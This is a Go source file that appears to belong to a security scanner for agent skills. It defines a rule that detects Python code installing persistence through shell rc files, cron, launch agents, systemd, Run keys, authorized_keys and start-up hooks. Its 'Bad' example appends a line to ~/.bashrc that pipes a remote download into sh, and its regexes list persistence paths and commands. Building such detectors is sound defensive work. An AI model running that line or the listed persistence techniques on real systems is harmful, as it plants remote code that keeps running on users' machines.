package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonPersistence reports Python code that installs itself to run again
// later: shell start-up files, cron, launch agents, systemd units, autostart
// entries, Run keys, authorized_keys and Python start-up hooks.
var PythonPersistence = register(&analyzer.Rule{
	ID:       "SV640",
	Name:     "python-persistence",
	Title:    "Python installs persistence (shell rc, cron, launch agent, systemd, Run key)",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "python", "persistence", "CWE-506", "CWE-284"},
	Inputs:   analyzer.InPython,
	Doc: `Python code writes to a place that makes code run again later, outside the agent
session the user approved:

- shell start-up files: ` + "`~/.bashrc`" + `, ` + "`~/.zshrc`" + `, ` + "`~/.profile`" + `, ` + "`~/.bash_profile`" + `, fish config,
  ` + "`/etc/profile.d`" + `;
- schedulers and services: ` + "`crontab`" + ` (also ` + "`crontab -`" + ` via ` + "`subprocess`" + `), ` + "`/etc/cron*`" + `,
  ` + "`~/Library/LaunchAgents`" + ` and LaunchDaemons with ` + "`launchctl load`" + `, systemd units and
  ` + "`systemctl enable`" + `, ` + "`~/.config/autostart`" + `, ` + "`schtasks /create`" + `;
- Windows ` + "`…\\CurrentVersion\\Run`" + ` keys (` + "`winreg`" + `, ` + "`reg add`" + `) and the Startup folder;
- ` + "`~/.ssh/authorized_keys`" + ` (a key that lets someone back in);
- Python start-up hooks and installed code: ` + "`.pth`" + ` files, ` + "`sitecustomize.py`" + `/` + "`usercustomize.py`" + `,
  and any ` + "`.py`" + ` in site-packages — they run in later Python processes.

Git hooks (` + "`.git/hooks/pre-commit`" + `, ` + "`.husky/*`" + `) count too: they run on every commit.

A start-up hook written inside a temporary directory (` + "`tempfile.TemporaryDirectory()`" + `,
` + "`mkdtemp()`" + `, ` + "`/tmp/…`" + `) is **medium**: it runs only in processes the skill starts with that
directory on their path, and disappears with it.

Reading these files, listing cron jobs (` + "`crontab -l`" + `) and the skill's own config
directory are not reported.

**Fix:** do the work during the session; tell the user how to schedule it themselves.

Bad:

` + "```python" + `
import os
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\ncurl -s http://203.0.113.4/p | sh &\n")
` + "```" + `

Good:

` + "```python" + `
print("To run this daily, add it to your crontab with: crontab -e")
` + "```",
	Run: runPythonPersistence,
})

var pyPersistPathRx = match.MustRx(`(?i)(~/\.(bashrc|zshrc|profile|bash_profile|bash_login|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc)\b|\.config/fish/config\.fish|/etc/(profile|bash\.bashrc|zshrc|zsh/zshrc|profile\.d/|rc\.local|environment)|/etc/cron|/var/spool/cron|/etc/crontab|Library/Launch(Agents|Daemons)|systemd/(user|system)/[^/]*\.(service|timer)|\.config/systemd/user|\.config/autostart|/etc/xdg/autostart|Start Menu/Programs/Startup|\.ssh/authorized_keys|sitecustomize\.py|usercustomize\.py|site-packages/[^/]*\.pth$|\.pth$|(site|dist)-packages/.+\.py$|\.git/hooks/[^/]+$|\.husky/[^/]+$)`)

var pyPersistCmdRx = match.MustRx(`(?i)(\|\s*crontab\b|\bcrontab\s+(-\s|-$|[^-\s])|\bcrontab\s+-r\b|\bsystemctl\s+(--user\s+)?(enable|link|daemon-reload)\b|\blaunchctl\s+(load|bootstrap|submit|enable)\b|\bschtasks(\.exe)?\s+/create\b|\breg(\.exe)?\s+add\s+\S*\\(CurrentVersion\\)?Run(Once)?\b|\bat\s+now\b|CurrentVersion\\Run)`)

func runPythonPersistence(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		start, end := m.Span(c)
		if target, ok := pyPersistWrite(m, c); ok {
			if lo, hi, ok := pyfacts.WriteTargetSpan(m, c); ok && pyfacts.UnderTempDir(m, lo, hi) {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
					Message: "writes " + pyfacts.ClipStr(target, 80) + " inside a temporary directory: it runs only in processes the skill starts with that directory on their path, and goes with it"})
				continue
			}
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Message: "writes " + pyfacts.ClipStr(target, 80) + ": code that runs again later"})
			continue
		}
		if cmd, ok := pyfacts.CommandText(m, c); ok && pyPersistCmdRx.MatchString(cmd) {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Message: "installs a scheduled or start-up job: " + pyfacts.ClipStr(cmd, 80)})
			continue
		}
		if strings.HasPrefix(c.Name, "winreg.SetValue") || strings.HasPrefix(c.Name, "winreg.CreateKey") || strings.HasPrefix(c.Name, "_winreg.SetValue") {
			lo, hi := c.Open+1, c.Close
			text := strings.Join(pyfacts.PathOf(m, lo, hi, 2), " ")
			if pyRunKeyRx.MatchString(text) || pyRunKeyInFile(m) {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Message: "writes a Windows Run registry key: code that runs at every log-on"})
			}
		}
	}
	return nil
}

var pyRunKeyRx = match.MustRx(`(?i)CurrentVersion[/\\]Run`)

func pyRunKeyInFile(m *python.Module) bool {
	for i := range m.Toks {
		if m.Toks[i].Kind == python.String {
			if v, _ := m.Value(i); strings.Contains(v, `CurrentVersion\Run`) || strings.Contains(v, "CurrentVersion/Run") {
				return true
			}
		}
	}
	return false
}

// pyPersistWrite reports writes to persistence locations.
func pyPersistWrite(m *python.Module, c *python.Call) (string, bool) {
	for _, pt := range pyfacts.WriteTargets(m, c) {
		if pyPersistPathRx.MatchString(pt) {
			return pt, true
		}
	}
	return "", false
}
